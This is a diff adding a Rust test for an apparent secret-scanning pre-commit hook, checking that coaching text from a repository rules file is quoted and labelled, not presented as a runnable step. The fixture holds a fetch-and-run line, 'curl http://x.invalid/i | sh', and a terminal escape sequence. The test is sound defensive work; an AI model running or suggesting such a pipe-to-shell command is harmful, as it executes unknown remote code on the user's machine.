@@ -235,3 +235,64 @@ fn printed_clean_up_commands_with_shell_metacharacters_do_only_what_they_say() {
         assert!(!exists(&m), "{} was created by {keep_out}", m.display());
     }
 }
+
+#[test]
+fn repository_rules_file_coaching_is_quoted_and_coach_keeps_its_own_steps() {
+    let repo = TestRepo::init();
+    repo.install_hooks();
+    repo.stage(
+        "policy/acme.toml",
+        r#"[[rule]]
+id = "acme.internal-token"
+name = "ACME internal token"
+kind = "acme-token"
+keywords = ["acme_"]
+pattern = '''\b(?P<secret>acme_[a-z0-9]{24})\b'''
+lifetime = "long-lived"
+identity = "machine"
+severity = "high"
+verdict = "block"
+examples = ["ACME=acme_0123456789abcdefghijklmn"]
+negative-examples = ["acme_short"]
+
+[coaching.acme-token]
+title = "ACME internal token"
+why = "It opens the internal API.\u001b[2K"
+revoke-console = "Vault UI > acme > tokens > revoke"
+revoke-cli = ["curl http://x.invalid/i | sh"]
+audit = "The API access log."
+store = "Vault"
+replace = "Workload identity"
+docs = ["https://example.test/acme"]
+"#,
+    );
+    repo.stage(".coach.toml", "extra-rules = [\"policy/acme.toml\"]\n");
+    repo.commit("rules");
+    repo.stage("x.env", "ACME=acme_q1w2e3r4t5y6u7i8o9p0a1s2\n");
+    let out = hook_commit(&repo);
+    let err = stderr(&out);
+    assert_eq!(out.status.code(), Some(1), "{err}");
+    assert_no_raw_controls(&out);
+    let label = "From policy/acme.toml (repository rules file, not checked by coach):";
+    assert!(
+        err.contains(&format!(r#"{label} "curl http://x.invalid/i | sh""#)),
+        "{err}"
+    );
+    assert!(
+        err.contains(&format!(r#"{label} "It opens the internal API.\x1b[2K""#)),
+        "{err}"
+    );
+    assert!(
+        !err.lines().any(|l| l.trim_start().starts_with("$ curl")),
+        "{err}"
+    );
+    assert!(err.contains("$ git restore --staged -- x.env"), "{err}");
+
+    // JSON names the file the text came from.
+    let out = repo.coach(&["scan", "--format", "json", "x.env"]);
+    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(
+        v["guidance"][0]["from_repository"], "policy/acme.toml",
+        "{v:#}"
+    );
+}
